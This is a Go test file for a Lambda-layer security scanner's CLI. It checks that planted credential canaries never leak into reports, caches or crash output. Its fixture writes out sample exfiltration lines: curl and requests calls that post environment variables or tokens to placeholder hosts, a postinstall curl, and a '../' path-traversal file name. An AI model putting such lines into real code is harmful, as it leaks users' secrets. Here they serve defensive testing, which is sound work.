package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/lamina-sec/lamina"
	"github.com/lamina-sec/lamina/internal/sample"
	"github.com/lamina-sec/lamina/internal/sample/layers"
	"github.com/lamina-sec/lamina/internal/snapshot"
)

// scanOf runs lamina in a folder of its own, with a home in it.
func scanOf(t *testing.T, dir string, args ...string) (code int, out, errs string) {
	t.Helper()
	std, o, e := stdio(t)
	std.Dir = dir
	std.Env = func(name string) string {
		if name == "HOME" {
			return filepath.Join(dir, "home")
		}
		return ""
	}
	return Main(t.Context(), args, std), o.String(), e.String()
}

// canaryLayer is a layer with a thousand credentials, each in one of the places
// whose text a fact is made of.
func canaryLayer() (data []byte, canaries []string) {
	r := rand.New(rand.NewPCG(11, 11))
	of := func(alphabet string, n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[r.IntN(len(alphabet))]
		}
		return string(b)
	}
	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	next := func(i int) string {
		var c string
		switch i % 4 {
		case 0:
			c = "AK" + "IA" + of(letters[:26]+"234567", 16)
		case 1:
			c = "gh" + "p_" + of(letters, 36)
		case 2:
			c = "gl" + "pat-" + of(letters, 20)
		default:
			c = "sk" + "_live_" + of(letters, 24)
		}
		canaries = append(canaries, c)
		return c
	}
	var files []layers.File
	add := func(name, body string, mode fs.FileMode) {
		files = append(files, layers.File{Name: name, Body: body, Mode: mode})
	}
	const site = "python/lib/python3.12/site-packages/"
	for i := range 1000 / 25 {
		c := func() string { return next(len(canaries)) }
		add("python/"+c()+"/__init__.py", "import os\n", 0)
		add("etc/"+c()+".txt", "x", 0)
		info := fmt.Sprintf("%sp%d-1.0.dist-info/", site, i)
		add(info+"METADATA", "Metadata-Version: 2.1\nName: p"+c()+"\nVersion: 1.0+"+c()+"\nLicense: by "+c()+"\nHome-page: https://u:"+c()+"@h.acme.internal/\nRequires-Dist: q"+c()+" (>=1)\n", 0)
		add(info+"direct_url.json", `{"url": "https://h.acme.internal/`+c()+`", "vcs_info": {"commit_id": "`+c()+`"}}`, 0)
		add(info+"top_level.txt", c()+"\n", 0)
		add(info+"RECORD", "x_"+c()+".py,sha256="+c()+",12\n", 0)
		add(site+c()+"-2.0.dist-info/METADATA", "Name: x\nVersion: 2.0\n", 0)
		add(fmt.Sprintf("nodejs/node_modules/n%d/package.json", i), `{"name": "n-`+c()+`", "version": "1.0.0-`+c()+`", "license": "`+c()+`", "scripts": {"postinstall": "curl https://x.invalid/`+c()+`"}, "dependencies": {"`+c()+`": "1"}}`, 0)
		add(fmt.Sprintf("python/z%d.pth", i), "import os; os.system('curl -u x:"+c()+" https://h.invalid')\n", 0)
		add(fmt.Sprintf("bin/w%d", i), "#!/bin/bash\nexport T="+c()+"\ncurl -d \"$(env)\" https://h.invalid/?k="+c()+"\nexec \"$@\"\n", 0o755)
		add(fmt.Sprintf("python/m%d.py", i), "import os, requests\nrequests.post('https://h.invalid/"+c()+"', data=dict(os.environ))\n", 0)
		add("../"+c(), "out", 0)
		add("lib/"+c()+".whl", "PK\x03\x04 damaged", 0)
		add(fmt.Sprintf("ln%d", i), "/tmp/"+c(), fs.ModeSymlink|0o777)
	}
	return layers.Zip(files...), canaries
}

// grams are the parts of the canaries that nothing may show: eight characters in a
// row, in small letters. The last four of a value may be shown.
func grams(canaries []string) map[string]bool {
	parts := map[string]bool{}
	for _, c := range canaries {
		for j := 6; j+8 <= len(c)-2; j++ {
			parts[strings.ToLower(c[j:j+8])] = true
		}
	}
	return parts
}

// shown is the text around the first part that stands in it, "" if none does.
func shown(text string, parts map[string]bool) string {
	low := strings.ToLower(text)
	for i := range max(0, len(low)-7) {
		if parts[low[i:i+8]] {
			return low[max(0, i-80):min(len(low), i+40)]
		}
	}
	return ""
}

// A thousand credentials in file names, links, versions, names, licences, commands
// and addresses: no format, no message, no error and no file that lamina keeps holds
// eight characters of one in a row.
func TestCanaries(t *testing.T) {
	dir := t.TempDir()
	data, canaries := canaryLayer()
	if len(canaries) != 1000 {
		t.Fatalf("%d canaries", len(canaries))
	}
	if err := os.WriteFile(filepath.Join(dir, "l.zip"), data, 0o600); err != nil {
		t.Fatal(err)
	}
	texts, parts := map[string]string{}, grams(canaries)
	keep := func(name string, args ...string) {
		_, out, errs := scanOf(t, dir, args...)
		if out == "" {
			t.Errorf("%s: nothing was printed: %s", name, errs)
		}
		texts[name], texts[name+", stderr"] = out, errs
	}
	for _, f := range reportFormats() {
		if f.Name != "ecs" && f.Name != "asff" { // they have nothing of a layer zip
			keep("scan "+f.Name, "scan", "l.zip", "-f", f.Name, "-v")
		}
	}
	keep("scan, cached", "scan", "l.zip", "-f", "json", "-v")
	keep("gate", "gate", "l.zip", "-f", "json")
	keep("opt view", "opt", "view", "l.zip", "-f", "json")
	err := filepath.WalkDir(filepath.Join(dir, "home"), func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(name)
		texts["kept "+filepath.Base(name)] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range texts {
		if strings.HasPrefix(name, "kept fingerprint.key") {
			continue
		}
		if where := shown(text, parts); where != "" {
			t.Errorf("%s: part of a canary in %q", name, where)
		}
	}
}

// Credentials in every string of an estate that somebody chose: no format of
// posture, and no message, holds eight characters of one in a row.
func TestCanaries_posture(t *testing.T) {
	dir := t.TempDir()
	_, canaries := canaryLayer()
	n := 0
	next := func() string { // of tokens that a name may hold
		for n++; !strings.HasPrefix(canaries[n%len(canaries)], "gh"+"p_"); n++ {
		}
		return canaries[n%len(canaries)]
	}
	s := sample.Estate(1, sample.Small)
	for i := range s.Layers {
		l := &s.Layers[i]
		l.Description, l.LicenseInfo = "use "+next()+" to build", next()
		if l.Policy != nil {
			for j := range l.Policy.Grants {
				l.Policy.Grants[j].StatementID = next()
			}
		}
	}
	for i := range s.Functions {
		f := &s.Functions[i]
		for k := range f.Environment {
			if f.Environment[k] != "" {
				f.Environment[k] = "/opt/" + next()
			}
		}
		f.Tags = map[string]string{"team": next()}
	}
	for i := range s.Principals {
		for j := range s.Principals[i].Inline {
			s.Principals[i].Inline[j].Name = next()
		}
	}
	for i := range s.OrganizationPolicies {
		s.OrganizationPolicies[i].Name = next()
	}
	for i := range s.ServiceFindings {
		x := &s.ServiceFindings[i]
		x.Title, x.Type, x.Vulnerabilities = "a secret: "+next(), next(), []string{next()}
		for j := range x.Packages {
			x.Packages[j] = lamina.ServicePackage{Name: next(), Version: next(), FixedIn: next(), Path: "python/" + next(), Layer: x.Packages[j].Layer}
		}
	}
	for i := range s.Targets {
		for j := range s.Targets[i].Gaps {
			s.Targets[i].Gaps[j].Reason = "refused " + next()
		}
	}
	var b bytes.Buffer
	if err := snapshot.Write(&b, s); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"s.lamina": b.Bytes(), "owners.toml": []byte("[[owner]]\ntag = \"team\"\n")} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	parts := grams(canaries)
	for _, f := range reportFormats() {
		if f.Name == "cyclonedx" || f.Name == "spdx" {
			continue // they have packages only
		}
		for _, args := range [][]string{{}, {"-v"}} {
			_, out, errs := scanOf(t, dir, append([]string{"posture", "s.lamina", "-f", f.Name}, args...)...)
			if len(out) < 1000 {
				t.Errorf("%s: %q, %s", f.Name, out, errs)
			}
			if where := shown(out, parts); where != "" {
				t.Errorf("%s: part of a canary in %q", f.Name, where)
			}
			if where := shown(errs, parts); where != "" {
				t.Errorf("%s, stderr: part of a canary in %q", f.Name, where)
			}
		}
	}
	// The commands that show what a snapshot holds, or hand it on, are no way round.
	b.Reset()
	if err := snapshot.Write(&b, sample.Estate(1, sample.Small)); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "old.lamina"), b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	layer := s.Layers[slices.IndexFunc(s.Layers, func(l lamina.LayerVersion) bool { return l.Policy != nil })].ARN
	function := s.ServiceFindings[0].Resources[0]
	if code, _, errs := scanOf(t, dir, "snapshot", "redact", "s.lamina", "-o", "red.lamina"); code != 0 {
		t.Fatal(errs)
	}
	for _, args := range [][]string{
		{"snapshot", "show", "s.lamina"},
		{"snapshot", "show", "red.lamina"},
		{"snapshot", "diff", "old.lamina", "s.lamina"},
		{"layers", "ls", "s.lamina"},
		{"layers", "show", layer, "s.lamina"},
		{"functions", "ls", "s.lamina"},
		{"functions", "show", function, "s.lamina"},
		{"principals", "matrix", "s.lamina"},
		{"principals", "who-can", "GetLayerVersion", layer, "s.lamina", "--principal", "*"},
		{"principals", "who-can", "UpdateFunctionConfiguration", layer, "s.lamina", "--principal", "*"},
	} {
		for _, format := range []string{"text", "json"} {
			_, out, errs := scanOf(t, dir, append(args, "-f", format)...)
			if len(out) < 200 {
				t.Errorf("%s: %q, %s", args, out, errs)
			}
			if where := shown(out+errs, parts); where != "" {
				t.Errorf("%s -f %s: part of a canary in %q", args, format, where)
			}
		}
	}
}

// What holds no credential comes through a cleaner byte for byte, a policy in a
// string too, and a policy that holds one stays a policy.
func TestCleaner_json(t *testing.T) {
	data, err := json.Marshal(sample.Estate(1, sample.Small))
	if err != nil {
		t.Fatal(err)
	}
	got, err := cleaner{}.json(data)
	if err != nil || !bytes.Equal(got, data) {
		t.Errorf("%d bytes became %d: %v", len(data), len(got), err)
	}
	secret := "gh" + "p_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
	policy := `{"Sid":"` + secret + `","Resource":"arn:aws:lambda:eu-west-1:111122223333:function:auth-api-33"}`
	in, err := json.Marshal([]string{policy, `a "quoted" \ ` + secret, "\u2028<&>"})
	if err != nil {
		t.Fatal(err)
	}
	if got, err = (cleaner{}).json(in); err != nil {
		t.Fatal(err)
	}
	var out []string
	if err := json.Unmarshal(got, &out); err != nil {
		t.Fatal(err)
	}
	masked := "gh" + "p_••••••••••••Q7r8"
	want := []string{strings.Replace(policy, secret, masked, 1), `a "quoted" \ ` + masked, "\u2028<&>"}
	if d := cmp.Diff(want, out); d != "" {
		t.Error(d)
	}
	for _, wrong := range []string{`"`, `"\`, `"\x"`, `{"a":"b`} {
		if out, err := (cleaner{}).json([]byte(wrong)); err == nil {
			t.Errorf("%s became %s", wrong, out)
		}
	}
}

// Credentials in the names, statements and variables of infrastructure code: no
// format of scan holds eight characters of one in a row.
func TestCanaries_code(t *testing.T) {
	dir := t.TempDir()
	_, canaries := canaryLayer()
	tokens := slices.DeleteFunc(slices.Clone(canaries), func(s string) bool { return !strings.HasPrefix(s, "gh"+"p_") })
	template := `Resources:
  Common:
    Type: AWS::Lambda::LayerVersion
    Properties: {LayerName: l-` + tokens[0] + `, Description: "` + tokens[1] + `", Content: {S3Bucket: b, S3Key: k}}
  Share:
    Type: AWS::Lambda::LayerVersionPermission
    Properties: {Action: lambda:GetLayerVersion, LayerVersionArn: !Ref Common, Principal: "*"}
  F:
    Type: AWS::Lambda::Function
    Properties:
      FunctionName: ` + tokens[2] + `
      Role: arn:aws:iam::111122223333:role/` + tokens[3] + `
      Layers: [!Ref Common, !Ref ` + tokens[4] + `, "arn:aws:lambda:eu-west-1:999999999999:layer:` + tokens[5] + `:1"]
      Environment: {Variables: {AWS_LAMBDA_EXEC_WRAPPER: /opt/` + tokens[6] + `}}
`
	if err := os.WriteFile(filepath.Join(dir, "template.yaml"), []byte(template), 0o600); err != nil {
		t.Fatal(err)
	}
	parts := grams(canaries)
	for _, f := range reportFormats() {
		if f.Name == "cyclonedx" || f.Name == "spdx" {
			continue // they have packages only
		}
		_, out, errs := scanOf(t, dir, "scan", "template.yaml", "-v", "-f", f.Name)
		if len(out) < 500 {
			t.Errorf("%s: %q, %s", f.Name, out, errs)
		}
		for _, text := range []string{out, errs} {
			if where := shown(text, parts); where != "" {
				t.Errorf("%s: part of a canary in %q", f.Name, where)
			}
		}
	}
}

// A crash does not print what it was about.
func TestMain_panic_with_secret(t *testing.T) {
	canary := "gh" + "p_" + "aB3dE6fG7hJ8kL9mN1pQ2rS4tU5vW6xY7zA8"
	code, out, errs := with(t, func(_ context.Context, _ *app) error { panic("cannot read " + canary) })
	if code != int(CannotRun) || shown(out+errs, grams([]string{canary})) != "" {
		t.Errorf("exit %d, %q", code, errs)
	}
}

// What is read from the cache is what is read from the layer, on one processor and
// on several, in every format, layer by layer and together.
func TestScan_same_bytes(t *testing.T) {
	dir := t.TempDir()
	var names []string
	for i, s := range layers.All() {
		if i%9 != 0 {
			continue
		}
		for _, data := range s.Layers {
			name := fmt.Sprintf("%d.zip", len(names))
			if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
				t.Fatal(err)
			}
			names = append(names, name)
		}
	}
	names = names[:min(len(names), 6)]
	run := func(args ...string) string {
		code, out, errs := scanOf(t, dir, args...)
		if out == "" {
			t.Fatalf("%s: %s", args, errs)
		}
		return fmt.Sprintf("%d\n%s\n%s", code, out, errs)
	}
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(0))
	for _, f := range reportFormats() {
		if f.Name == "ecs" || f.Name == "asff" {
			continue // they have nothing of a layer zip
		}
		for _, args := range [][]string{append([]string{"gate", "--each"}, names...), append([]string{"scan"}, names[:3]...)} {
			args = append(args, "-f", f.Name)
			runtime.GOMAXPROCS(1)
			want := run(append(args, "--no-cache")...)
			for _, procs := range []int{1, 4} {
				runtime.GOMAXPROCS(procs)
				for _, how := range []string{"cold or warm", "warm"} {
					if got := run(args...); got != want {
						t.Errorf("%s with %d processors, cache %s: differs from --no-cache", args, procs, how)
					}
				}
			}
		}
	}
}

// The same credential in two files and two layers is said to be the same, and its
// fingerprint is shown under a key that was given; the key is made once, for the
// user alone.
func TestScan_same_credential(t *testing.T) {
	dir := t.TempDir()
	value := "AK" + "IA" + "QWERTYUIOPASDFGH"
	for name, files := range map[string][]layers.File{
		"a.zip": {{Name: "etc/one.cfg", Body: "id: " + value + "\n"}, {Name: "etc/two.cfg", Body: "\nid: " + value + "\n"}},
		"b.zip": {{Name: "etc/three.cfg", Body: "id: " + value + "\n"}},
	} {
		if err := os.WriteFile(filepath.Join(dir, name), layers.Zip(files...), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	_, out, errs := scanOf(t, dir, "scan", "a.zip", "b.zip", "-f", "json")
	for _, want := range []string{`"the same credential: etc/two.cfg line 2, b.zip!/etc/three.cfg line 1"`, `"the same credential: a.zip!/etc/one.cfg line 1, a.zip!/etc/two.cfg line 2"`} {
		if !strings.Contains(out, want) {
			t.Errorf("no %s in %s%s", want, out, errs)
		}
	}
	if strings.Contains(out, "fingerprint") {
		t.Error("a fingerprint under the machine's own key is shown")
	}
	key := filepath.Join(dir, "home/.local/state/lamina/fingerprint.key")
	info, err := os.Stat(key)
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Fatalf("%v, %v", info, err)
	}
	before, _ := os.ReadFile(key)
	if err := os.WriteFile(filepath.Join(dir, "team.key"), bytes.Repeat([]byte("k"), 32), 0o600); err != nil {
		t.Fatal(err)
	}
	_, first, _ := scanOf(t, dir, "scan", "a.zip", "-f", "json", "--hash-key", "team.key")
	_, second, _ := scanOf(t, dir, "scan", "b.zip", "-f", "json", "--hash-key", "team.key")
	at := strings.Index(first, `"fingerprint: `)
	if at < 0 || !strings.Contains(second, first[at:at+len(`"fingerprint: `)+16]) {
		t.Errorf("no fingerprint that both have: %s", first)
	}
	if after, _ := os.ReadFile(key); !bytes.Equal(before, after) {
		t.Error("the key was made again")
	}
	if err := os.WriteFile(filepath.Join(dir, "short.key"), []byte("k"), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, errs := scanOf(t, dir, "scan", "a.zip", "--hash-key", "short.key"); code != int(Usage) || !strings.Contains(errs, "want 32 or more") {
		t.Errorf("exit %d, %s", code, errs)
	}
}
